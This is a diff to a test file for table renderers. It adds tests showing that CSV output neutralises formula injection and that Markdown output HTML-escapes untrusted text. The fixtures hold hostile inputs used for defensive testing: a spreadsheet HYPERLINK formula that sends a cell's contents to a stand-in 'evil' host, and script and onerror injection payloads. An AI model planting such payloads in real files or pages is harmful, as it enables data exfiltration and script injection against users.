@@ -41,12 +41,12 @@ describe('table renderers', () => {
   it('Markdown: bold caption, ---: under number columns, escaped pipes, dashes for null, notes below', () => {
     expect(toMarkdown(table)).toBe(
       [
-        '**Costs \\| peak_SRAM & 100%**',
+        '**Costs \\| peak_SRAM &amp; 100%**', // & as &amp; (Markdown cells are HTML-escaped: untrusted text)
         '',
         '| Model | MACs | Acc (%) | Note |',
         '| --- | ---: | ---: | --- |',
         '| a\\|b | 1,234,567 | 0.9123 | x, "quoted" |',
-        '| peak_SRAM & 100% | — | 12.5 | — |',
+        '| peak_SRAM &amp; 100% | — | 12.5 | — |',
         '| c | 42 | — | line |',
         '',
         'Source: run 1.',
@@ -175,6 +175,76 @@ describe('shortening for display, whole in CSV', () => {
     expect(toLatex(empty)).not.toContain('tabular');
     expect(toLatex(empty)).toContain('\\label{tab:rejections}\nnone: every proposal passed\n\\end{table}');
     expect(toCsv(empty)).toBe('Reason,Count\r\n');
+  });
+});
+
+describe('untrusted text in data files and Markdown (a run directory name, a trainer message)', () => {
+  it('CSV: a text cell or header starting with = + - @ TAB or CR gets a leading quote; number cells never do', () => {
+    const t: Table = {
+      id: 'failures',
+      caption: 'c',
+      columns: ['=cmd', 'Message', 'n'],
+      rows: [
+        ['a', '=1+1', -5],
+        ['b', '-x', 0.5],
+        ['c', '@a', -0],
+        ['d', '+a', -5.25],
+        ['e', '-5', -1e-7],
+        ['f', '\tcmd', null],
+        ['g', '\rx', 1],
+        ['h', '=HYPERLINK("http://evil/?"&A1,"x")', 2],
+        ['i', 'a=b; x-y @z +w', 3],
+      ],
+    };
+    expect(toCsv(t)).toBe(
+      [
+        "'=cmd,Message,n",
+        "a,'=1+1,-5", // the number -5 stays -5
+        "b,'-x,0.5",
+        "c,'@a,0",
+        "d,'+a,-5.25",
+        "e,'-5,-1e-7", // text "-5" is text: quoted; the number -1e-7 is not
+        "f,'\tcmd,",
+        `g,"'\rx",1`, // then quoted as usual (a line break)
+        `h,"'=HYPERLINK(""http://evil/?""&A1,""x"")",2`,
+        'i,a=b; x-y @z +w,3', // only the first character counts
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('Markdown: < > & as HTML entities in caption, header, cells and notes; pipes still escaped; line breaks the only markup', () => {
+    const t: Table = {
+      id: 'table-iii',
+      caption: 'Run <script>alert(1)</script>',
+      columns: ['Run <dir>', 'Message'],
+      rows: [
+        ['runs/<img src=x onerror=alert(1)>', 'a & b | c <b>bold</b>\nnext'],
+        ['&lt;', '<<<<<<<<<<<<<<<<<<<<'],
+      ],
+      shorten: { Message: { kind: 'words', max: 10 } },
+      notes: ['x > y'],
+    };
+    const md = toMarkdown(t);
+    expect(md).toBe(
+      [
+        '**Run &lt;script&gt;alert(1)&lt;/script&gt;**',
+        '',
+        '| Run &lt;dir&gt; | Message |',
+        '| --- | --- |',
+        // cut at 10 characters (…) before escaping, so no entity is cut in half
+        '| runs/&lt;img src=x onerror=alert(1)&gt; | a &amp; b \\| c… |',
+        `| &amp;lt; | ${'&lt;'.repeat(9)}… |`, // an entity-looking text stays text
+        '',
+        'x &gt; y',
+        '',
+      ].join('\n'),
+    );
+    expect(toMarkdown({ id: 't', caption: 'c', columns: ['m'], rows: [['<i>a</i>\nb']] })).toContain('| &lt;i&gt;a&lt;/i&gt;<br>b |');
+    expect(md.replaceAll('<br>', '')).not.toMatch(/[<>]/);
+    // HTML and LaTeX were already escaped
+    expect(toHtml(t)).toContain('<td>runs/&lt;img src=x onerror=alert(1)&gt;</td>');
+    expect(toLatex(t)).toContain('runs/\\textless{}img src=x onerror=alert(1)\\textgreater{}');
   });
 });
 
